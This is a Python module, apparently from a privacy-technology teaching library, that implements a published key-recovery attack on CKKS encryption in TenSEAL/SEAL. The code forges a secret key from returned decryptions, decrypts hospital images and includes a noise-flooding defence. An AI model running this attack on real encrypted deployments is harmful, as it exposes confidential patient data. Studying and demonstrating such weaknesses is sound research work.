"""What a decryption handed back tells the server: CKKS is not IND-CPA^D secure.

Li and Micciancio (EUROCRYPT 2021) observed that a CKKS decryption is the message *plus noise*,
``m' = [c0 + c1 s]_q``, and that whoever holds the ciphertext ``(c0, c1)`` and ``m'`` holds a
linear equation in the secret key ``s``. The attack here needs only what the batched protocol
gives a curious model owner once the hospital hands its decrypted scores back (for billing,
monitoring, a second opinion): the two logit ciphertexts it computed itself, and the real parts
of every slot of both (a full batch of N/2 images).

Modulo the first prime ``q0`` and in the NTT domain of SEAL (where ring products are pointwise),
re-encoding twice the decrypted real parts gives ``m' + tau(m')`` exactly, tau being complex
conjugation of the slots (``X -> X^-1``), which pairs NTT point k with point pi(k). For each
ciphertext j and pair (k, pi k)::

    M_j[k] = c0_j[k] + c0_j[pi k] + c1_j[k] s[k] + c1_j[pi k] s[pi k]     (mod q0)

two ciphertexts give a 2 x 2 linear system per pair, whose solution is the secret key modulo q0
(its NTT values). That limb decrypts every ciphertext once it is mod-switched down to the last
level, which the public context allows: the server then reads every image it was ever sent.

TenSEAL 0.3.18 exposes all of this through ``tenseal.sealapi`` (SEAL's own objects: ciphertext
words, the encoder, the evaluator, the decryptor). Objects cross from TenSEAL to ``sealapi``
through SEAL's serialisation in a temporary folder that is removed at once; the forged key is
written in SEAL's uncompressed format (:func:`forge_secret_key`).
"""

from __future__ import annotations

import os
import struct
import tempfile
from dataclasses import dataclass

import numpy as np

from .client import HEClient, Message
from .params import HEError


def _sealapi():
    import tenseal.sealapi as sealapi

    return sealapi


def to_sealapi(obj, seal_context, kind: str):
    """A TenSEAL-side SEAL object (``Ciphertext`` or ``SecretKey``) as a ``tenseal.sealapi`` one,
    through SEAL's own serialisation."""
    cls = getattr(_sealapi(), kind)
    with tempfile.TemporaryDirectory(prefix="pets-he-") as folder:
        path = os.path.join(folder, kind)
        obj.save(path)
        out = cls()
        out.load(seal_context, path)
    return out


def load_ciphertext(context, blob: bytes, folder: str):
    """A serialised TenSEAL vector's (first) ciphertext as a ``sealapi.Ciphertext``.

    A TenSEAL vector is a protobuf message that embeds SEAL's own serialisation of its
    ciphertext: we cut that out at SEAL's header (magic 0xA15E, its size at bytes 8-16) and load
    it, which is several times faster than re-serialising through TenSEAL."""
    sealapi = _sealapi()
    start = blob.find(b"\x5e\xa1\x10")
    size = struct.unpack("<Q", blob[start + 8:start + 16])[0] if start >= 0 else 0
    path = os.path.join(folder, "ciphertext")
    if 0 <= start and 16 < size <= len(blob) - start:
        with open(path, "wb") as f:
            f.write(blob[start:start + size])
        ct = sealapi.Ciphertext()
        try:
            ct.load(_seal_context(context), path)
            return ct
        except (RuntimeError, ValueError):
            pass
    import tenseal as ts

    return to_sealapi(ts.ckks_vector_from(context, blob).ciphertext()[0], _seal_context(context),
                      "Ciphertext")


def words(obj, start: int = 0, count: int | None = None) -> np.ndarray:
    """``count`` 64-bit words of a sealapi object's data from ``start`` (all by default)."""
    data = obj.dyn_array()
    stop = data.size() if count is None else start + count
    return np.fromiter((data[i] for i in range(start, stop)), dtype=np.uint64, count=stop - start)


def _seal_context(context):
    return context.seal_context().data


def _first_prime(context) -> int:
    return int(_seal_context(context).first_context_data().parms().coeff_modulus()[0].value())


def _ciphertexts(context, result: Message) -> list:
    out = []
    with tempfile.TemporaryDirectory(prefix="pets-he-") as folder:
        cts = [load_ciphertext(context, blob, folder) for blob in result.blobs]
    for ct in cts:
        if ct.size() != 2:
            raise HEError(f"a result ciphertext has {ct.size()} polynomials; the attack needs "
                          "relinearised ones (2)")
        out.append(ct)
    return out


def _encode_limb0(encoder, values, parms_id, scale: float, n: int) -> np.ndarray:
    plain = _sealapi().Plaintext()
    encoder.encode(list(values), parms_id, scale, plain)
    return words(plain, 0, n).astype(object)


def conjugation_pairs(context, parms_id, scale: float) -> np.ndarray:
    """``pi``: NTT point k of the first prime and point ``pi[k]`` are ``x`` and ``x^-1``.

    Found from SEAL's own encoder: encoding the complex conjugate of a vector permutes the NTT
    values of its encoding by ``pi``."""
    encoder = _sealapi().CKKSEncoder(_seal_context(context))
    n = encoder.slot_count() * 2
    rng = np.random.default_rng(0)  # a public test vector: any will do
    z = rng.uniform(-1, 1, n // 2) + 1j * rng.uniform(-1, 1, n // 2)
    a = _encode_limb0(encoder, z, parms_id, scale, n)
    b = _encode_limb0(encoder, np.conj(z), parms_id, scale, n)
    where = {int(v): k for k, v in enumerate(a)}
    pi = np.array([where.get(int(v), -1) for v in b])
    if (pi < 0).any() or not np.array_equal(pi[pi], np.arange(n)):
        raise HEError("could not pair the NTT points by conjugation (values repeated?)")
    return pi


@dataclass
class RecoveredKey:
    """The secret key modulo the first prime, as SEAL stores it (NTT values), and how it was
    found."""

    ntt_limb0: np.ndarray  # object array of ints below ``prime``
    prime: int
    n: int
    solved_pairs: int


def recover_secret_key(context, result: Message, decrypted: np.ndarray) -> RecoveredKey:
    """The server's attack: its public ``context``, a ``result`` it computed (two or more logit
    ciphertexts of one batch) and the hospital's decryption of it, ``decrypted`` (images x
    ciphertexts, the real parts of every slot: a full batch of N/2 images).
    """
    if result.kind != "result" or len(result.meta.get("chunks", [])) != 1:
        raise HEError("recover_secret_key takes a batched 'result' message of one chunk")
    cts = _ciphertexts(context, result)
    n = cts[0].poly_modulus_degree()
    decrypted = np.asarray(decrypted, dtype=np.float64)
    if decrypted.shape != (n // 2, len(cts)):
        raise HEError(f"need the decrypted real parts of all {n // 2} slots of each of the "
                      f"{len(cts)} ciphertexts, got shape {decrypted.shape} (a full batch)")
    if len(cts) < 2:
        raise HEError("two ciphertexts of one batch are needed (real parts give half the "
                      "equations each)")
    q = _first_prime(context)
    encoder = _sealapi().CKKSEncoder(_seal_context(context))
    pi = conjugation_pairs(context, cts[0].parms_id(), cts[0].scale)
    rows = []
    for j, ct in enumerate(cts[:2]):
        limbs = ct.coeff_modulus_size()
        c0 = words(ct, 0, n).astype(object)
        c1 = words(ct, limbs * n, n).astype(object)
        m = _encode_limb0(encoder, 2.0 * decrypted[:, j], ct.parms_id(), ct.scale, n)
        rows.append((c1, c1[pi], (m - c0 - c0[pi]) % q))
    (a1, b1, r1), (a2, b2, r2) = rows
    det = (a1 * b2 - a2 * b1) % q
    solvable = det != 0
    inverse = np.array([pow(int(d), -1, q) if d else 0 for d in det], dtype=object)
    key = ((r1 * b2 - r2 * b1) * inverse) % q
    return RecoveredKey(key, q, n, int(solvable.sum()) // 2)


def key_agreement(recovered: RecoveredKey, client: HEClient) -> float:
    """Fraction of NTT values of the recovered limb that equal the hospital's secret key's (a
    referee's check: it reads the hospital's key, which the server never sees)."""
    ctx = client.context
    sk = to_sealapi(ctx.secret_key().data, _seal_context(ctx), "SecretKey")
    true = words(sk.data(), 0, recovered.n).astype(object)
    return float(np.mean(true == recovered.ntt_limb0))


def forge_secret_key(recovered: RecoveredKey, context):
    """A ``sealapi.SecretKey`` whose first limb is the recovered one (the others zero), written in
    SEAL's uncompressed format: it decrypts any ciphertext switched down to the last level."""
    sealapi = _sealapi()
    seal_context = _seal_context(context)
    key_data = seal_context.key_context_data()
    limbs = len(key_data.parms().coeff_modulus())
    data = np.zeros(limbs * recovered.n, dtype="<u8")
    data[:recovered.n] = np.array([int(v) for v in recovered.ntt_limb0], dtype=np.uint64)
    reference = sealapi.Serialization.SEALHeader()
    with tempfile.TemporaryDirectory(prefix="pets-he-") as folder:
        probe = os.path.join(folder, "probe")
        context.public_key().data.save(probe)  # any SEAL object: for the version numbers
        sealapi.Serialization.LoadHeader(probe, reference, True)

        def header(size: int) -> bytes:  # magic, header size, version, no compression, size
            return struct.pack("<HBBBBHQ", 0xA15E, 0x10, reference.version_major,
                               reference.version_minor, 0, 0, size)

        dyn = struct.pack("<Q", data.size) + data.tobytes()
        body = (struct.pack("<4Q", *seal_context.key_parms_id()) + struct.pack("<Q", data.size)
                + struct.pack("<d", 1.0) + header(16 + len(dyn)) + dyn)
        path = os.path.join(folder, "forged")
        with open(path, "wb") as f:
            f.write(header(16 + len(body)) + body)
        key = sealapi.SecretKey()
        key.load(seal_context, path)
    return key


def decrypt_with(recovered: RecoveredKey, context, blobs: list[bytes]) -> np.ndarray:
    """Decrypt serialised CKKS vectors with the recovered key: ``(len(blobs), N/2)`` real values
    (every slot). Each is first mod-switched to the last level, which needs no key."""
    sealapi = _sealapi()
    seal_context = _seal_context(context)
    key = forge_secret_key(recovered, context)
    decryptor = sealapi.Decryptor(seal_context, key)
    evaluator = sealapi.Evaluator(seal_context)
    encoder = sealapi.CKKSEncoder(seal_context)
    last = seal_context.last_parms_id()
    out = []
    with tempfile.TemporaryDirectory(prefix="pets-he-") as folder:
        for blob in blobs:
            ct = load_ciphertext(context, blob, folder)
            evaluator.mod_switch_to_inplace(ct, last)
            plain = sealapi.Plaintext()
            decryptor.decrypt(ct, plain)
            out.append(encoder.decode_double(plain))
    return np.asarray(out)


def stolen_images(recovered: RecoveredKey, context, query: Message, image_size: int,
                  n_images: int) -> np.ndarray:
    """The first ``n_images`` images of a batched ``query``, decrypted by the server alone."""
    if query.kind != "query" or query.meta.get("layout") != "pixel-major":
        raise HEError("stolen_images reads a batched query (one ciphertext per pixel position)")
    pixels = image_size**2
    slots = decrypt_with(recovered, context, query.blobs[:pixels])  # (pixels, N/2)
    return slots[:, :n_images].T.reshape(n_images, image_size, image_size)


def flood(values: np.ndarray, width: float) -> np.ndarray:
    """``values`` plus uniform noise in ``[-width, width]`` from the OS's CSPRNG: what a hospital
    could add before releasing decrypted values. It defeats the exact re-encoding above; a proof
    of IND-CPA^D security needs ``width`` far above the decryption noise (2^sigma times it for
    statistical distance 2^-sigma per coefficient), see :func:`pets_lite.he.noise.flooding_cost`.
    """
    values = np.asarray(values, dtype=np.float64)
    if not width > 0:
        raise ValueError(f"width must be positive, got {width!r}")
    unit = np.frombuffer(os.urandom(8 * values.size), dtype=np.uint64) / 2.0**64
    return values + (2.0 * unit.reshape(values.shape) - 1.0) * width
